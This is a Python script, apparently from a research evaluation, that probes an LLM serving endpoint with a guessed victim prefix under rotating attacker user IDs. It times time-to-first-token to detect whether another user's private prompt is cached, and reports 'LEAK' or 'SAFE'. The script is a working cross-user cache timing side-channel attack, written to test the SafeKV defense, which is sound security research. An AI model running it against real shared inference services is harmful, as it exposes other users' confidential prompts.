"""Timing side-channel attacker against a serving endpoint.

Re-creation of the reference's NDSS evaluation attacker
(``ndss_scripts/timing_side_channel_attacker.py``): measures per-token
TTFT to distinguish "victim prefix cached" from "not cached".  With a
shared (non-SafeKV) radix cache, a prefix another user recently sent
returns a measurably lower TTFT; SafeKV's private-by-default nodes and
probe-spike eviction eliminate the signal.

Usage:
  python ndss_scripts/timing_side_channel_attacker.py \
      --base-url http://127.0.0.1:30000 \
      --victim-prefix "my secret medical history is" \
      --probes 20 [--attacker-user mallory]

Reports P50 per-token TTFT for (a) baseline random prompts, (b) probes of
the victim prefix, and the detection verdict at the reference's 4e-5 s
per-token threshold.
"""

from __future__ import annotations

import argparse
import json
import random
import statistics
import time

import requests

DETECT_THRESHOLD_PER_TOKEN = 4e-5  # seconds (reference :21)


def time_ttft(base_url: str, text: str, user_id: str) -> float:
    t0 = time.perf_counter()
    with requests.post(
        base_url + "/generate",
        json={
            "text": text,
            "user_id": user_id,
            "sampling_params": {"max_new_tokens": 1, "temperature": 0.0,
                                "ignore_eos": True},
            "stream": True,
        },
        stream=True,
        timeout=120,
    ) as r:
        for line in r.iter_lines():
            if line.startswith(b"data:") and b"[DONE]" not in line:
                return time.perf_counter() - t0
    return time.perf_counter() - t0


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--base-url", default="http://127.0.0.1:30000")
    ap.add_argument("--victim-prefix", required=True)
    ap.add_argument("--attacker-user", default="attacker")
    ap.add_argument("--probes", type=int, default=20)
    ap.add_argument("--baseline-probes", type=int, default=5)
    args = ap.parse_args()

    rng = random.Random(0)
    words = ["red", "blue", "tree", "cloud", "stone", "river", "moon"]
    n_tokens = max(len(args.victim_prefix.split()), 4)

    # each probe uses a fresh attacker identity so the attacker's own
    # requests never share cache with each other (they control user_id)
    baseline = []
    for i in range(args.baseline_probes):
        junk = " ".join(rng.choice(words) for _ in range(n_tokens))
        baseline.append(
            time_ttft(args.base_url, junk, f"{args.attacker_user}-b{i}")
            / n_tokens
        )
    base_p50 = statistics.median(baseline)

    probes = []
    for i in range(args.probes):
        t = time_ttft(
            args.base_url,
            args.victim_prefix + f" probe{i}",
            f"{args.attacker_user}-{i}",
        ) / n_tokens
        probes.append(t)
    probe_p50 = statistics.median(probes)

    delta = base_p50 - probe_p50
    detected = delta > DETECT_THRESHOLD_PER_TOKEN
    print(json.dumps({
        "baseline_p50_per_token_s": base_p50,
        "probe_p50_per_token_s": probe_p50,
        "delta_per_token_s": delta,
        "threshold_s": DETECT_THRESHOLD_PER_TOKEN,
        "victim_prefix_cached_detected": detected,
        "verdict": (
            "LEAK: timing distinguishes cached victim prefix"
            if detected
            else "SAFE: no cache-timing signal observed"
        ),
    }, indent=1))


if __name__ == "__main__":
    main()
